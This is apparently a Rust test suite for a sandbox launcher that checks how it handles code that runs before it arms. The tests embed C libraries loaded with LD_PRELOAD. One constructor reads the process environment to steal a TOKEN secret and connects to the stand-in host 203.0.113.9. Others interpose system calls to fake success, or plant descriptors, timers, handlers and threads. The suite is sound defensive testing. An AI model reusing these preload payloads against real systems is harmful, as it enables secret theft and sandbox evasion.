//! What ran first, what was handed down, who is there already.

use crate::attack::{
    FORBIDDEN, GUARDED, Gate, Guard, NET, VICTIM, c_program, compile, fresh, is_root, scratch, text, victim,
};
use fnguard_attacks::program::{Policy, Program};
use fnguard_attacks::sink::Tcp;

fnguard_attacks::tests! { "arming":
    constructor_runs_after, interposed_calls_are_seen, helper_before_arming, opened_before_arming,
    handler_before_arming, handed_down_listener,
    armed_twice, static_program, musl_program, bad_input, threads_before_arming,
}

const SECRET: &str = "s3cr3t-Value-of-the-function-7f1c";

/// A library of the function's, whose constructor runs before its main: the launcher has armed by
/// then.
fn constructor_runs_after() {
    let (sink, folder) = (Tcp::at("203.0.113.9:4445"), fresh("open"));
    std::fs::create_dir(&folder).expect("a directory");
    let file = folder.join("trace");
    let source = format!(
        "#define _GNU_SOURCE\n#include <arpa/inet.h>\n#include <fcntl.h>\n#include <sys/socket.h>\n#include <unistd.h>\n\
         static char b[65536];\n\
         __attribute__((constructor)) static void run(void) {{\n\
         struct sockaddr_in a = {{.sin_family = AF_INET, .sin_port = htons(4445)}};\n\
         inet_aton(\"203.0.113.9\", &a.sin_addr);\n\
         int e = open(\"/proc/self/environ\", O_RDONLY);\n\
         int n = read(e, b, sizeof b); close(e);\n\
         int f = open(\"{}\", O_CREAT | O_WRONLY, 0600); write(f, b, n); close(f);\n\
         int s = socket(AF_INET, SOCK_STREAM, 0); connect(s, (void *)&a, sizeof a); close(s); }}\n",
        text(&file)
    );
    let library = c_program(&source, &["-shared", "-fPIC", "-Wno-unused-result"]);
    // The launcher is started without it, the function with it: as a library that it links.
    let attack = victim(["nothing"])
        .under(["env", &format!("LD_PRELOAD={}", text(&library))])
        .variable("TOKEN", SECRET);
    attack.plain();
    assert_eq!(sink.connections(), 1);
    let stolen = std::fs::read(&file).expect("the trace");
    assert!(String::from_utf8_lossy(&stolen).contains(SECRET));
    std::fs::remove_file(&file).expect("it is there");
    let policy = format!(
        "{NET}[secrets]\nenv = [\"TOKEN\"]\n[exec]\nallow = [\"{VICTIM}\"]\n[memory]\nexecutable = \"files\"\n\
         [files]\nwrite = [\"{}\"]\n",
        text(file.parent().expect("a directory"))
    );
    let guarded = attack.guard(&policy).run();
    guarded.finished();
    assert_eq!(sink.connections(), 0);
    let stolen = std::fs::read(&file).expect("the constructor ran");
    assert!(!String::from_utf8_lossy(&stolen).contains(SECRET));
    guarded.one_record("network", "connect", "203.0.113.9:4445");
}

/// prctl, syscall and their kin of an attacker's own, in the process that arms: they say that all
/// went well. What is in force was put there by other means, and read back by other means.
fn interposed_calls_are_seen() {
    let source = "#include <stddef.h>\n\
        int prctl(int o, ...) { (void)o; return 0; }\n\
        long syscall(long n, ...) { (void)n; return 0; }\n\
        int setrlimit(int r, const void *l) { (void)r; (void)l; return 0; }\n\
        int fork(void) { return -1; }\n\
        int dup2(int a, int b) { (void)a; return b; }\n\
        int capset(void *h, void *d) { (void)h; (void)d; return 0; }\n";
    let library = c_program(source, &["-shared", "-fPIC", "-fno-builtin"]);
    let sink = Tcp::on(FORBIDDEN);
    let attack = victim(["connect", &sink.address.to_string()]).under(["env", "-u", "LD_PRELOAD"]);
    let policy = format!("{NET}[exec]\nallow = [\"{VICTIM}\"]\n[files]\nwrite = [\"{}\"]\n", text(scratch()));
    let guarded = attack.guard(&policy).variable("LD_PRELOAD", text(&library)).run();
    guarded.finished();
    assert_eq!(sink.connections(), 0, "{}", guarded.text());
    guarded.one_record("network", "connect", &sink.address.to_string());
    let posture = guarded.posture();
    assert!(posture["interposed"].to_string().contains("syscall"), "{posture}");
    let strict = format!("{policy}[arm]\nstrict_init = true\n");
    let refused = attack.guard(&strict).variable("LD_PRELOAD", text(&library)).run();
    assert_eq!(refused.status, Some(125), "{}", refused.text());
    assert_eq!(refused.records("refusal")[0]["code"], "foreign_code");
}

/// A process forked before arming, with memory that both can write.
fn helper_before_arming() {
    let source = "#define _GNU_SOURCE\n#include <sys/mman.h>\n#include <sys/prctl.h>\n#include <signal.h>\n#include <unistd.h>\n\
        __attribute__((constructor)) static void run(void) {\n\
        volatile int *page = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);\n\
        if (fork() == 0) { prctl(PR_SET_PDEATHSIG, SIGKILL); for (;;) { *page = 42; pause(); } } }\n";
    let library = c_program(source, &["-shared", "-fPIC"]);
    let run = |strict: &str| {
        Program::new([VICTIM, "nothing"])
            .guard(&format!("{NET}[arm]\n{strict}"))
            .variable("LD_PRELOAD", text(&library))
            .in_pid_namespace()
            .run()
    };
    let refused = run("strict_init = true\n");
    assert_eq!(refused.status, Some(125), "{}", refused.text());
    let message = refused.records("refusal").remove(0).to_string();
    assert!(message.contains("child processes") && message.contains("shared writable map"), "{message}");
    let named = run("strict_init = false\n");
    let warnings = named.posture()["warnings"].to_string();
    assert!(warnings.contains("child processes") && warnings.contains("shared writable map"), "{warnings}");
}

/// What a constructor opened before the launcher has armed, of each kind that reaches something:
/// none of it is left to the function, and each is named. The launcher alone loads it so early.
fn opened_before_arming() {
    const NUMBERS: std::ops::RangeInclusive<i32> = 20..=30;
    // io_uring, perf events and userfaultfd may be switched off; the rest every kernel has.
    const OPTIONAL: [i32; 3] = [22, 29, 30];
    let sink = Tcp::on(FORBIDDEN);
    let port = sink.address.port();
    let source = format!(
        "#define _GNU_SOURCE\n#include <arpa/inet.h>\n#include <fcntl.h>\n#include <signal.h>\n#include <sys/epoll.h>\n\
        #include <linux/perf_event.h>\n#include <sys/mman.h>\n#include <sys/signalfd.h>\n#include <sys/socket.h>\n#include <sys/syscall.h>\n\
        #include <sys/time.h>\n#include <sys/timerfd.h>\n#include <errno.h>\n#include <stdlib.h>\n#include <string.h>\n#include <unistd.h>\n\
        static void at(int from, int to) {{ if (from >= 0) {{ dup2(from, to); close(from); }} }}\n\
        __attribute__((constructor)) static void run(void) {{\n\
        const char *in = getenv(\"OPENER\"); if (!in || strcmp(in, program_invocation_short_name)) return;\n\
        struct sockaddr_in a = {{.sin_family = AF_INET, .sin_port = htons({port})}};\n\
        inet_aton(\"{FORBIDDEN}\", &a.sin_addr);\n\
        at(socket(AF_INET, SOCK_STREAM, 0), 20); connect(20, (void *)&a, sizeof a);\n\
        at(socket(AF_INET, SOCK_STREAM, 0), 21); listen(21, 8);\n\
        char ring[256] = {{0}}; at(syscall(SYS_io_uring_setup, 4, ring), 22);\n\
        at(memfd_create(\"x\", 0), 23);\n\
        at(epoll_create1(0), 24);\n\
        at(timerfd_create(CLOCK_MONOTONIC, 0), 25);\n\
        at(open(\"/proc/self/mem\", O_RDWR), 26);\n\
        at(open(\"/\", O_PATH | O_DIRECTORY), 27);\n\
        sigset_t s; sigemptyset(&s); sigaddset(&s, SIGUSR1); at(signalfd(-1, &s, 0), 28);\n\
        struct perf_event_attr p = {{.type = PERF_TYPE_SOFTWARE, .size = sizeof p, .exclude_kernel = 1}};\n\
        at(syscall(SYS_perf_event_open, &p, 0, -1, -1, 0), 29);\n\
        at(syscall(SYS_userfaultfd, 1), 30);\n\
        struct itimerval t = {{{{0}}, {{1000, 0}}}}; setitimer(ITIMER_REAL, &t, 0); }}\n"
    );
    let library = c_program(&source, &["-shared", "-fPIC", "-Wno-unused-result"]);
    let attack = victim(["inherited", "20", "30"]);
    // Unguarded: the constructor runs in the victim itself, and everything is there.
    let plain = attack.clone().variable("LD_PRELOAD", text(&library)).variable("OPENER", "victim").run();
    plain.finished();
    let there = plain.list("inherited");
    let possible: Vec<i32> =
        NUMBERS.filter(|number| there.iter().any(|line| line.starts_with(&format!("{number} ")))).collect();
    assert!(
        NUMBERS.into_iter().all(|number| possible.contains(&number) || OPTIONAL.contains(&number)),
        "{}",
        plain.text()
    );
    assert_eq!((sink.connections(), plain.said("timer")), (1, 1), "{}", plain.text());
    let run = |strict: bool| {
        attack
            .guard(&format!("{NET}[arm]\nstrict_init = {strict}\n"))
            .variable("LD_PRELOAD", text(&library))
            .variable("OPENER", "guarded")
            .run()
    };
    let refused = run(true);
    assert_eq!(refused.status, Some(125), "{}", refused.text());
    let refusal = refused.records("refusal").remove(0).to_string();
    let named = run(false);
    named.finished();
    let warnings = named.posture()["warnings"].to_string();
    for number in possible {
        let name = format!("descriptor {number} (");
        assert!(refusal.contains(&name), "{name}: {refusal}");
        assert!(warnings.contains(&name), "{name}: {warnings}");
        assert!(
            !named.list("inherited").iter().any(|line| line.starts_with(&format!("{number} "))),
            "{name}: the function has it\n{}",
            named.text()
        );
    }
    assert_eq!(named.said("timer"), 0, "{}", named.text());
    assert!(refusal.contains("interval timer 0") && warnings.contains("interval timer 0"), "{refusal}");
}

/// Code of a constructor's that is to run later, when a timer fires: in the launcher, which becomes the
/// arbiter, neither the timer nor the handler is left, and both are named.
fn handler_before_arming() {
    let source = "#define _GNU_SOURCE\n#include <errno.h>\n#include <signal.h>\n#include <stdlib.h>\n#include <string.h>\n#include <time.h>\n\
        static void handle(int signal) { (void)signal; }\n\
        __attribute__((constructor)) static void run(void) {\n\
        const char *in = getenv(\"SLEEPER\"); if (!in || strcmp(in, program_invocation_short_name)) return;\n\
        struct sigaction a = {.sa_handler = handle}; sigaction(SIGUSR2, &a, 0);\n\
        struct sigevent e = {.sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGUSR2};\n\
        struct itimerspec often = {{0, 1000000}, {0, 1000000}}; timer_t t;\n\
        timer_create(CLOCK_MONOTONIC, &e, &t); timer_settime(t, 0, &often, 0); }\n";
    let library = c_program(source, &["-shared", "-fPIC"]);
    let gate = Gate::new();
    // The signals that a process handles, and its timers, from outside.
    let seen = |program: Program, with: &str| {
        let program = program.variable("LD_PRELOAD", text(&library)).variable("SLEEPER", with);
        let running = program.start();
        let held = gate.reached();
        let status = std::fs::read_to_string(format!("/proc/{}/status", running.id())).expect("a status");
        let caught = status.lines().find_map(|line| line.strip_prefix("SigCgt:")).expect("its handlers");
        let caught = u64::from_str_radix(caught.trim(), 16).expect("a set");
        // To its own user the arbiter's are closed.
        let timers = match std::fs::read_to_string(format!("/proc/{}/timers", running.id())) {
            Ok(timers) => timers.lines().filter(|line| line.starts_with("ID: ")).count(),
            Err(error) => {
                assert!(!is_root() && with == "guarded", "{error}");
                0
            }
        };
        drop(held);
        (caught & !LIBRARY, timers, running.finish())
    };
    // What the C library handles for threads of its own.
    const LIBRARY: u64 = 0b11 << 31;
    const SIGUSR2: u64 = 1 << (libc::SIGUSR2 - 1);
    let attack = victim(["wait-for", text(&gate.path)]);
    let (caught, timers, _) = seen(attack.clone(), "victim");
    assert_eq!((caught & SIGUSR2, timers), (SIGUSR2, 1), "unguarded it goes on");
    let (caught, timers, named) = seen(attack.guard(NET), "guarded");
    assert_eq!((caught, timers), (0, 0), "{}", named.text());
    let warnings = named.finished().posture()["warnings"].to_string();
    let refused = attack
        .guard(&format!("{NET}[arm]\nstrict_init = true\n"))
        .variable("LD_PRELOAD", text(&library))
        .variable("SLEEPER", "guarded")
        .run();
    assert_eq!(refused.status, Some(125), "{}", refused.text());
    let refusal = refused.records("refusal").remove(0).to_string();
    for what in ["timer 0", "handler of signal 12 from /"] {
        assert!(warnings.contains(what) && refusal.contains(what), "{what}: {warnings}\n{refusal}");
    }
}

/// A listener that was there before: both would be asked, and the kernel allows one.
fn handed_down_listener() {
    let attack = victim(["nothing"]);
    let there = [env!("CARGO_BIN_EXE_impose"), "1000=listen", "--"];
    let refused = attack.guard(NET).under(there).run();
    assert_eq!(refused.status, Some(125), "{}", refused.text());
    assert_eq!(refused.records("refusal")[0]["code"], "other_listener", "{}", refused.text());
    let degraded = attack.guard(&format!("{NET}[arm]\non_unsupported = \"degrade\"\n")).under(there).run();
    degraded.finished();
    let posture = degraded.posture();
    assert_eq!(
        (&posture["mechanism"], &posture["controls"]["network"]),
        (&"none".into(), &"not_held".into()),
        "{posture}"
    );
    assert!(posture["not_held"].to_string().contains("listener"), "{posture}");
}

fn armed_twice() {
    let inner = Policy::new(scratch(), NET);
    let attack = victim(["nothing"]).guarded(GUARDED, &inner);
    let outcome = attack
        .guard(&format!("{NET}[exec]\nallow = [\"{VICTIM}\"]\n[files]\nwrite = [\"{}\"]\n", text(scratch())))
        .run();
    assert_eq!(outcome.status, Some(125), "{}", outcome.text());
    assert!(outcome.shows(b"armed_already"), "{}", outcome.text());
}

/// A program in C: connects to a port of 203.0.113.9, and looks for TOKEN in its environment.
pub const C_VICTIM: &str = "#include <arpa/inet.h>\n#include <errno.h>\n#include <stdio.h>\n#include <stdlib.h>\n#include <string.h>\n\
    #include <sys/socket.h>\n#include <unistd.h>\n\
    int main(int argc, char **argv) {\n\
    if (argc > 1 && !strcmp(argv[1], \"abort\")) abort();\n\
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[1]))};\n\
    inet_aton(\"203.0.113.9\", &a.sin_addr);\n\
    int s = socket(AF_INET, SOCK_STREAM, 0);\n\
    printf(\"= connect %d\\n\", connect(s, (void *)&a, sizeof a) ? -errno : 0);\n\
    printf(\"= token %d\\n\", getenv(\"TOKEN\") ? 1 : 0);\n\
    fflush(stdout); return 42; }\n";

/// Programs of other kinds than this one: held alike, and their abort ends them alone.
fn c_victim(program: &std::path::Path) {
    let sink = Tcp::on(FORBIDDEN);
    let port = sink.address.port().to_string();
    let attack = Program::new([text(program), &port]).variable("TOKEN", SECRET);
    let plain = attack.plain();
    assert_eq!((plain.said("token"), sink.connections()), (1, 1));
    let guarded = attack.under_guard(&format!("{NET}[secrets]\nenv = [\"TOKEN\"]\n"));
    assert_eq!((guarded.said("token"), sink.connections()), (0, 0), "{}", guarded.text());
    guarded.only_record("network", "connect", &sink.address.to_string());
    let aborted = Program::new([text(program), "abort"]).guard(NET).run();
    assert_eq!(aborted.signal, Some(libc::SIGABRT), "{}", aborted.text());
    assert_eq!(aborted.records("ended")[0]["signal"], "SIGABRT", "the arbiter lived to say so");
}

fn static_program() {
    c_victim(&c_program(C_VICTIM, &["-static"]));
    c_victim(&c_program(C_VICTIM, &["-static-pie", "-fPIE"]));
}

/// musl's abort and raise signal a thread id that it remembers: after an exec it is its own. (The
/// fork in place, where it would be the arbiter's, is the attribute's to test.)
fn musl_program() {
    c_victim(&compile("musl-gcc", C_VICTIM, &["-static"]));
    c_victim(&compile("musl-gcc", C_VICTIM, &[]));
}

/// Each a clear message, status 125, and nothing started.
fn bad_input() {
    for (policy, shown) in [
        ("[network\n", "guard.toml:2"),
        ("[networks]\nallow = []\n", "network"),
        ("[network]\nallow = [\"*\"]\n", "allow_any"),
        ("[exec]\nallow = [\"/bin/sh\"]\nallow = []\n", "allow"),
        // It could be written over and started.
        ("[exec]\nallow = [\"/tmp/tool\"]\n", "the function may write to `/tmp/tool`"),
    ] {
        let outcome = victim(["nothing"]).guard(policy).run();
        assert_eq!(outcome.status, Some(125), "{policy}\n{}", outcome.text());
        assert!(outcome.shows(shown.as_bytes()), "{policy}: {shown}\n{}", outcome.text());
    }
    let outcome = Program::new([GUARDED, "/nonexistent/guard.toml", VICTIM, "nothing"]).run();
    assert_eq!(outcome.status, Some(125), "{}", outcome.text());
    let weak = "[secrets]\nenv = [\"TOKEN\"]\n";
    // Each in vain to redact: it would blank ordinary text, or nothing.
    for value in ["", "abc", "     ", "4711", "aaaaaaaaaaaa", "password"] {
        let started = victim(["nothing"]).variable("TOKEN", value).under_guard(weak);
        assert!(started.posture()["weak"].to_string().contains("TOKEN"), "{}", started.text());
        let refused = victim(["nothing"])
            .variable("TOKEN", value)
            .guard(&format!("{weak}on_weak = \"refuse\"\n"))
            .run();
        assert_eq!(refused.status, Some(125), "{}", refused.text());
        assert!(refused.records("refusal")[0].to_string().contains("TOKEN"));
    }
    let outcome = Program::new(["/nonexistent/program"]).guard(NET).run();
    assert_eq!(outcome.status, Some(127), "{}", outcome.text());
}

/// A thread that is there before arming: it would live on beside the guard.
fn threads_before_arming() {
    let source = "#include <pthread.h>\n#include <unistd.h>\n\
        static void *wait_on(void *unused) { for (;;) pause(); return unused; }\n\
        __attribute__((constructor)) static void run(void) { pthread_t thread; pthread_create(&thread, 0, wait_on, 0); }\n";
    let library = c_program(source, &["-shared", "-fPIC", "-pthread"]);
    let file = fresh("trace");
    let attack = victim(["write-create", text(&file)]).guard(NET);
    let refused = attack.variable("LD_PRELOAD", text(&library)).run();
    assert_eq!(refused.status, Some(125), "{}", refused.text());
    assert!(!file.exists(), "nothing was started");
    let refusal = refused.records("refusal").remove(0);
    assert_eq!(refusal["code"], "threads", "{refusal}");
    assert!(refusal["message"].to_string().contains("2 threads"), "{refusal}");
    assert!(refusal["remedy"].to_string().contains("start no thread before main"), "{refusal}");
}
